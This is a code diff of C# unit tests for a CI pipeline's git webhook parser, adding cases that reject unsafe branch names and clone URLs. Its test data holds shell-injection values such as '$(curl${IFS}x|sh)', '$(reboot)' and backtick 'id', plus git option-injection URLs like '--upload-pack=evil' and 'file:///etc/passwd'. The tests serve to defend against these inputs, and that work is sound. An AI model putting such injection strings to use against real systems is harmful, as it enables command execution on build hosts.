@@ -151,23 +151,28 @@ public sealed class When_reading_git_webhooks
     }
 
     [Theory]
-    [InlineData("refs/heads/main $(reboot)", "ref")]
-    [InlineData("refs/heads/-rf", "ref")]
-    [InlineData("refs/heads/a..b", "ref")]
-    [InlineData("refs/heads/x\u0000y", "ref")]
-    [InlineData("refs/heads/ok;", "")]
-    public void Should_refuse_ref_names_git_would_not_make(string gitRef, string field)
+    [InlineData("refs/heads/main $(reboot)")]
+    [InlineData("refs/heads/feature/$(curl${IFS}x|sh)")]
+    [InlineData("refs/heads/x`id`")]
+    [InlineData("refs/tags/v1';rm")]
+    [InlineData("refs/heads/ok;")]
+    [InlineData("refs/heads/-rf")]
+    [InlineData("refs/heads/a..b")]
+    [InlineData("refs/heads/x\u0000y")]
+    public void Should_refuse_ref_names_that_could_reach_a_shell_or_that_git_would_not_make(string gitRef)
     {
         var push = new GitPush("acme/shop", gitRef, Commit, false, "https://github.com/acme/shop.git", null, null);
 
-        if (field.Length == 0)
-        {
-            Assert.Equal("ok;", GitWebhook.RunParams(Trigger, push)["GIT_BRANCH"]);
-            return;
-        }
-
         var ex = Assert.Throws<PipelineValidationException>(() => GitWebhook.RunParams(Trigger, push));
-        Assert.Equal([field], ex.Errors.Keys);
+        Assert.Equal(["ref"], ex.Errors.Keys);
+    }
+
+    [Fact]
+    public void Should_take_a_ref_name_of_letters_digits_and_dot_underscore_slash_plus_minus()
+    {
+        var push = new GitPush("acme/shop", "refs/heads/release/1.4+build_7-x", Commit, false, "https://github.com/acme/shop.git", null, null);
+
+        Assert.Equal("release/1.4+build_7-x", GitWebhook.RunParams(Trigger, push)["GIT_BRANCH"]);
     }
 
     [Theory]
@@ -175,6 +180,8 @@ public sealed class When_reading_git_webhooks
     [InlineData("https://github.com/acme/shop.git --upload-pack=evil")]
     [InlineData("-oProxyCommand=evil")]
     [InlineData("file:///etc/passwd")]
+    [InlineData("https://github.com/acme/$(id).git")]
+    [InlineData("https://github.com/acme/shop.git;reboot")]
     public void Should_refuse_clone_urls_that_are_not_urls(string url)
     {
         var push = new GitPush("acme/shop", "refs/heads/main", Commit, false, url, null, null);
